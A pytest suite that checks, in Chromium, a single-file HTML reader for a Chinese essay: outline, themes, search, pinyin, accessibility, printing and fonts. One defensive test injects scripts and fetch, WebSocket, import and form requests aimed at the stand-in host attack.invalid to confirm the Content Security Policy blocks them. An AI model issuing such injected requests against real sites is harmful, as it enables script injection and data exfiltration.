"""The single-file edition read in Chromium: outline, themes, search, sentence, pinyin; on the screen and on paper."""

import re
import unicodedata
from pathlib import Path

import pypdf
import pytest

import essaylib as el
from essaylib import Span, concordance, themes
from essaylib.annotation import note
from essaylib.reading.document import reading_of
from essaylib.translation import read_glossary, read_translation
from tests import browsers
from tests.browsers import axe, clipboard, open_file
from tests.conftest import ROOT
from tests.edition import PAGE, boxes, cut_off, open_reader, write_edition

READINGS = ROOT / "seeds" / "readings"
PANELS = ["notes", "sentence", "search", "themes", "display", "help"]
DARK_AND_LIGHT = pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])


@pytest.fixture(scope="module")
def seed(tmp_path_factory, essay):
    """The seed with everything in it."""
    given = {
        "translation": read_translation(READINGS / "working_english.toml", essay),
        "glossary": read_glossary(READINGS / "glossary.toml", essay),
    }
    path = write_edition(tmp_path_factory.mktemp("seed"), essay, reading=True, font=True, **given)
    assert path.stat().st_size < 1_000_000
    return path


@pytest.fixture(scope="module")
def book(chromium, seed, essay):
    """The seed, open for several rows."""
    with open_reader(chromium, seed, essay) as opened:
        yield opened


@pytest.fixture(scope="module")
def marked(tmp_path_factory):
    """A short text with notes: of a role, free, overlapping, without a tag, and one of another text, which is lost."""
    spring = el.parse_essay(PAGE)
    at = spring.text.index
    told = [
        ("桃花都开了", "claim", "写景"),
        ("山里的桃花", "自拟", "重叠\n" * 9),
        ("一本𠮷野写的", "", ""),
        ("选举要公开", "demand", "谁来选？"),
    ]
    notes = [
        note(spring, Span(at(words), at(words) + len(words)), tag=tag, comment=comment, creator="Ada")
        for words, tag, comment in told
    ]
    other = el.parse_essay("秋天走了，天又凉了。")
    notes.append(note(other, Span(0, 4), tag="claim", comment="不在此处", creator="Ada"))
    return spring, write_edition(tmp_path_factory.mktemp("marked"), spring, notes=notes, reading=True)


# Reading --------------------------------------------------------------------------------------------------------------


def test_the_outline_leads_and_follows(book):
    page = book.page
    page.locator(".er-part", has_text="完善制约和监督机制").click()
    assert page.locator(".er-part[aria-current]").inner_text().split() == ["3.3", "3.完善制约和监督机制"]
    top = page.locator(".er-heading", has_text="完善制约和监督机制").bounding_box()["y"]
    assert 0 < top < 500
    assert page.locator(".er-trail").inner_text().split("›")[-1].split() == ["3.3", "3.完善制约和监督机制"]
    page.mouse.move(500, 500)
    page.mouse.wheel(0, -20_000)
    page.locator(".er-part[aria-current]").wait_for(state="detached")  # the title is in no part
    followed = []
    for _ in range(12):
        page.mouse.wheel(0, 500)
        page.wait_for_timeout(60)
        followed.append(page.locator(".er-part[aria-current] .er-part-address").inner_text())
    assert followed == sorted(followed)
    assert len(set(followed)) > 4
    page.locator(".er-part[aria-current] .er-part-address", has_text=re.compile(r"^3\.[34]$")).wait_for()
    page.locator(".er-address[data-address='3.4/1']").click()
    page.get_by_text("Copied: 3.4/1 已复制：3.4/1").wait_for()  # copying answers later
    assert clipboard(page) == "3.4/1"


def test_themes_are_drawn_counted_and_lead_to_their_sentences(book, essay):
    page = book.page
    book.open("themes")
    hits = themes.hits(essay)
    wanted = [hit.span.of(essay.text) for hit in sorted(hits, key=lambda hit: hit.span) if hit.theme == "监督"]
    switch = page.get_by_role("switch", name="监督", exact=False).first
    switch.click()
    assert page.locator(".er-unit .er-theme-0").all_inner_texts() == wanted
    assert page.locator(".er-themes tr", has=switch).locator(".er-count").all_inner_texts()
    cell = page.locator(".er-by-part tbody tr", has_text="完善制约和监督机制").locator(".er-count").first
    number = int(cell.inner_text())
    cell.click()
    listed = page.locator(".er-sentence-row")
    assert sum(one.locator("mark").count() for one in listed.all()) == number
    listed.first.click()
    address = listed.first.locator(".er-part-address").inner_text()
    assert page.locator(".er-text .er-now").first.bounding_box()["y"] > 0
    assert essay.address(essay.find(address).span) == address
    lines = {
        page.locator(f".er-text .er-theme-{k}").first.evaluate("it => getComputedStyle(it).textDecoration")
        for k in range(page.evaluate("() => { document.querySelectorAll('[role=switch]')[2].click(); return 2; }"))
    }
    assert len(lines) == 2  # told apart by the line, not by colour alone
    for _ in range(2):
        page.get_by_role("switch", checked=True).first.click()
    assert page.locator(".er-unit [class*=er-theme-]").count() == 0


def test_search_finds_what_the_concordance_finds(book, essay):
    page = book.page
    page.locator(".er-text").focus()
    book.key("/")
    page.keyboard.type("监督")
    page.get_by_text("9 in ").wait_for()
    lines = concordance.find(essay, "监督", width=40)
    assert page.locator(".er-kwic-row .er-part-address").all_inner_texts() == [line.address for line in lines]
    assert [words for _, words in book.marks("er-found")] == ["监督"] * 9
    page.locator(".er-kwic-row").nth(4).click()
    assert [words for name, words in book.marks("er-found-now")] == ["监督"]
    assert book.said().startswith("5 / 9 · ")
    box = page.locator(".er-now").first.bounding_box()
    assert 0 < box["y"] < 900
    page.get_by_label("String, as it stands").fill("群众 监督")
    page.get_by_text("does not stand in the text").wait_for()
    page.get_by_label("String, as it stands").press("Escape")
    assert book.marks("er-found") == []


def test_a_sentence_shows_its_page_its_english_and_its_words(book, essay):
    page = book.page
    book.open("sentence")
    book.click("第一，坚持党的群众路线")
    assert page.locator(".er-sen-head").inner_text().split() == ["‹", "1.1/1", "›"]
    place = page.locator(".er-sen-page").inner_text()
    raw = essay.raw_span(essay.find("1.1/1").span)
    line = essay.source.raw[: raw.start].count("\n") + 1
    assert f"line {line}" in place
    assert "page_cut" in place
    taken_out = page.locator(".er-sen-raw del").all_inner_texts()
    assert any("2、" in one for one in taken_out)  # the cut of the page, which this sentence runs across
    page.get_by_text("Working English 试译").click()
    english = read_translation(READINGS / "working_english.toml", essay).by_address
    assert english["1.1/1"] in page.locator(".er-fold", has_text="Working English").inner_text()
    assert "our working English" in page.locator(".er-fold", has_text="Working English").inner_text()
    page.get_by_label("English under every sentence").first.check()
    under = page.locator(".er-text .er-english")
    assert under.count() == len(english)
    assert page.locator(".er-sources").inner_text().startswith("English")
    page.get_by_label("English under every sentence").first.uncheck()
    assert under.count() == 0
    page.get_by_text("Words 词语").click()
    words = page.locator(".er-words").inner_text()
    assert "群众" in words
    assert "qúnzhòng" in words
    page.get_by_role("button", name="The next sentence").click()
    assert page.locator(".er-sen-head").inner_text().split()[1] == "1.1/2"


def test_pinyin_and_levels_stand_over_the_text_and_move_no_offset(book, essay):
    page = book.page
    book.open("display")
    page.get_by_label("all 全文").check()
    over = page.locator(".er-text rt")
    assert over.count() > 1000
    assert "qúnzhòng" in over.all_inner_texts()
    page.get_by_label("character 字").check()
    assert over.count() == sum(map(el.hanzi.is_han, essay.text))
    book.name_it("林")
    for by in ("word 词", "character 字"):
        book.open("display")
        page.get_by_label(by).check()
        book.drag("坚持党的群众路线")
        book.key("h")
        [one] = book.notes()
        assert one.exact == "坚持党的群众路线"
        assert sorted("".join(words for _, words in book.marks("er-note-free"))) == sorted("坚持党的群众路线")
        book.key("Delete")
    book.open("display")
    page.get_by_label("nothing 不注").check()
    assert over.count() == 0
    page.get_by_label("Mark words").select_option("6")
    found = reading_of(essay)["words"]
    wanted = [essay.text[a:b] for unit in found for a, b, level in unit if level == 7]
    assert page.locator(".er-text .er-level").all_inner_texts() == wanted
    page.get_by_role("button", name="Back to the defaults").click()
    assert page.locator(".er-text .er-level").count() == 0


def test_a_file_without_pinyin_says_so(chromium, tmp_path, essay):
    with open_reader(chromium, write_edition(tmp_path, essay), essay) as reader:
        reader.open("display")
        reader.page.get_by_label("the sentence 本句").check()
        reader.page.wait_for_timeout(50)
        assert "Pinyin and words are not in this file." in reader.page.locator(".er-panel-display").inner_text()
        assert reader.page.locator(".er-text rt").count() == 0


# Looks ----------------------------------------------------------------------------------------------------------------


@DARK_AND_LIGHT
def test_axe_finds_nothing_in_any_panel(chromium, marked, dark):
    spring, path = marked
    with open_reader(chromium, path, spring, dark=dark) as reader:
        page = reader.page
        assert page.locator("#essaylib-reader").get_attribute("data-theme") == ("dark" if dark else "light")
        assert axe(page) == []  # the list of notes
        page.locator(".er-note-go").first.click()
        assert axe(page, within=".er-side") == []  # a note that is lost, open
        reader.drag("群众监督")
        reader.do("note")
        reader.field("tag").fill("主张")
        page.locator(".er-more summary").click()
        assert axe(page, within=".er-side") == []
        reader.field("comment").fill("写")
        reader.key("Escape")
        assert axe(page, within=".er-side") == []
        page.get_by_role("button", name="Throw away").click()
        for panel in PANELS[1:]:
            reader.open(panel)
            if panel == "search":
                page.locator(".er-search input").first.fill("读")
                page.locator(".er-kwic-row").first.wait_for()
            if panel == "themes":
                for box in page.get_by_role("switch").all()[:3]:
                    box.click()
            if panel == "sentence":
                reader.click("书里说")
                page.locator(".er-fold summary").last.click()
            if panel == "display":
                page.get_by_label("all 全文").check()
                page.get_by_label("Mark words").select_option("1")
            assert axe(page) == [], panel


def _contrast(one: list[int], other: list[int]) -> float:
    def light(color: list[int]) -> float:
        parts = [c / 255 / 12.92 if c / 255 <= 0.04045 else ((c / 255 + 0.055) / 1.055) ** 2.4 for c in color]
        return 0.2126 * parts[0] + 0.7152 * parts[1] + 0.0722 * parts[2]

    high, low = sorted((light(one), light(other)), reverse=True)
    return (high + 0.05) / (low + 0.05)


def test_words_are_readable_on_every_mark(chromium, marked):
    spring, path = marked
    pairs = [*((f"note-{k}", "ink") for k in range(8)), ("found", "found-ink"), ("focus", "paper"), ("now", "ink"),
             ("now", "soft"), ("paper", "soft"), *(("paper", f"theme-{k}") for k in range(6))]  # fmt: skip
    for dark in (False, True):
        with open_reader(chromium, path, spring, dark=dark) as reader:
            colors = reader.page.evaluate("""names => {
                const probe = document.querySelector('#essaylib-reader').appendChild(document.createElement('i'));
                return Object.fromEntries(names.map(name => {
                    probe.style.color = `var(--er-${name})`;
                    return [name, getComputedStyle(probe).color.match(/\\d+/g).map(Number)];
                }));
            }""", sorted({name for pair in pairs for name in pair}))  # fmt: skip
            low = [pair for pair in pairs if _contrast(colors[pair[0]], colors[pair[1]]) < 4.5]
            assert low == [], dark


@pytest.mark.parametrize(
    "window", [{"zoom": 2}, {"width": 420, "height": 860}, {"width": 420, "height": 860, "touch": True, "dark": True}]
)
def test_zoomed_or_narrow_nothing_is_cut_and_all_is_in_reach(chromium, marked, window):
    spring, path = marked
    with open_reader(chromium, path, spring, **window) as reader:
        for panel in PANELS:
            reader.open(panel)
            assert cut_off(reader.page) == [], panel
        reader.open("notes")
        reader.page.locator(".er-note-go").first.click()
        assert cut_off(reader.page) == []
        reader.drag("群众监督")
        assert cut_off(reader.page, ".er-actions") == []
        reader.do("note")
        assert cut_off(reader.page) == []
        line = boxes(reader.page, spring, reader.span("昨夜下过雨。"))
        assert all(box[0] >= 0 and box[0] + box[2] <= reader.page.viewport_size["width"] for box in line)


def test_text_notes_and_marks_go_to_paper(chromium, marked, tmp_path):
    spring, path = marked
    with open_reader(chromium, path, spring, dark=True) as reader:
        reader.open("help")  # whatever panel is open, the notes are printed
        reader.page.pdf(path=tmp_path / "paper.pdf")
        assert reader.page.locator(".er-text [class^=er-note]").count() == 0  # highlights again, no elements
        assert len(reader.marks("er-note-0")) == 1
    pages = pypdf.PdfReader(tmp_path / "paper.pdf").pages
    said = re.sub(r"\s", "", unicodedata.normalize("NFKC", "".join(page.extract_text() for page in pages)))
    shown = [unicodedata.normalize("NFKC", one.span.of(spring.text)) for one in spring.sentences]
    assert [one for one in shown if one not in said] == []
    assert [words for words in ("写景", "谁来选?", "不在此处", "主张", "Ada", "重叠" * 9) if words not in said] == []
    assert "Export" not in said
    assert "Display" not in said
    fills = b"".join(page.get_contents().get_data() for page in pages)
    assert re.search(rb"\b1 \.851 \.4784 rg", fills)  # --er-note-0 under the words


def test_without_a_script_the_text_and_the_notes_are_there(chromium, marked):
    spring, path = marked
    with open_file(chromium, path, javascript=False) as opened:
        said = re.sub(r"\s|/\d+|\[\d+\]", "", opened.page.locator("body").inner_text())  # without numbers
        assert [one for one in spring.sentences if one.span.of(spring.text) not in said] == []
        assert "谁来选？" in said
        assert opened.watch.faults() == []


def test_without_a_chinese_font_the_page_draws_with_its_own(tmp_path, chromium, essay):
    fonts = Path("/usr/share/fonts/truetype/dejavu")
    if not fonts.is_dir():
        pytest.skip(f"{fonts} is not there: on Debian apt-get install fonts-dejavu-core")
    settings = tmp_path / "fonts.conf"
    settings.write_text(
        '<?xml version="1.0"?><!DOCTYPE fontconfig SYSTEM "urn:fontconfig:fonts.dtd">'
        f"<fontconfig><dir>{fonts}</dir><cachedir>{tmp_path}/cache</cachedir></fontconfig>"
    )
    spring = el.parse_essay(PAGE.replace("𠮷", "林").replace("𠀋", "李"))
    glyphs: dict[bool, list[bytes]] = {}
    with browsers.chromium(env={"FONTCONFIG_FILE": str(settings)}) as browser:
        for font in (True, False):
            with open_reader(browser, write_edition(tmp_path, spring, font=font), spring) as reader:
                reader.page.evaluate("() => document.fonts.ready.then(() => 1)")
                loaded = reader.page.evaluate("() => [...document.fonts].map(face => [face.family, face.status])")
                assert loaded == ([["essaylib-rest", "loaded"]] if font else [])
                glyphs[font] = []
                for at in range(spring.text.index("群众监督"), spring.text.index("群众监督") + 4):
                    [(x, y, _, height)] = reader.boxes(Span(at, at + 1))
                    clip = {"x": round(x) + 1, "y": round(y), "width": 16, "height": round(height)}
                    glyphs[font].append(reader.page.screenshot(clip=clip))
    assert len(set(glyphs[True])) == 4  # four characters, four pictures
    assert len(set(glyphs[False])) < 4  # as a canary: without it they are boxes


# Nothing leaves -------------------------------------------------------------------------------------------------------


def test_the_policy_lets_nothing_else_run_or_leave(chromium, marked):
    _, path = marked
    with open_file(chromium, path) as opened:
        page = opened.page
        policy = page.locator("meta[http-equiv=Content-Security-Policy]").get_attribute("content")
        assert policy is not None
        assert policy.startswith("default-src 'none'; script-src 'sha256-")
        assert "unsafe" not in policy
        assert opened.faults() == []
        page.evaluate("""async () => {
            const script = document.createElement('script');
            script.textContent = 'window.pwned = 1';
            document.body.append(script);
            const image = new Image();
            image.setAttribute('onerror', 'window.pwned = 2');
            image.src = 'http://attack.invalid/image';
            document.body.append(image);
            const frame = document.createElement('iframe');
            frame.src = 'http://attack.invalid/frame';
            document.body.append(frame);
            for (const send of [() => fetch('http://attack.invalid/fetch'), () => setTimeout('window.pwned = 3'),
                                () => new WebSocket('ws://attack.invalid/'), () => import('http://attack.invalid/x.js')])
                try { await send(); } catch { }
            const form = document.createElement('form');
            form.action = 'http://attack.invalid/form';
            document.body.append(form);
            form.submit();
        }""")
        page.wait_for_timeout(300)
        assert browsers.ran(page) == []
        assert opened.watch.requests == []
        assert any("Content Security Policy" in line for line in opened.watch.console)


def test_a_hit_far_down_a_long_list_is_reached_without_the_lines_before_it(chromium, tmp_path):
    long = el.parse_essay("\n".join(f"第{i}天，雨停了。" for i in range(1000)))
    with open_reader(chromium, write_edition(tmp_path, long), long) as reader:
        page, rows = reader.page, reader.page.locator(".er-kwic-row")
        page.locator(".er-text").focus()
        reader.key("/")
        page.keyboard.type("雨停")
        page.get_by_text("1000 in ").wait_for()
        page.keyboard.press("Shift+Enter")
        page.get_by_text("1000 / 1000 · ").wait_for()
        assert rows.count() == 200
        assert page.locator(".er-kwic-row[aria-current]").inner_text().startswith("0/1000")
        page.get_by_text("200 before, of 800").click()
        assert rows.count() == 400
        assert rows.first.inner_text().startswith("0/601")
        assert page.evaluate("document.activeElement === document.querySelector('.er-kwic-row')")
        page.get_by_label("String, as it stands").press("Enter")  # round to the first
        page.get_by_text("1 / 1000 · ").wait_for()
        assert rows.first.inner_text().startswith("0/1")
        assert rows.count() == 200
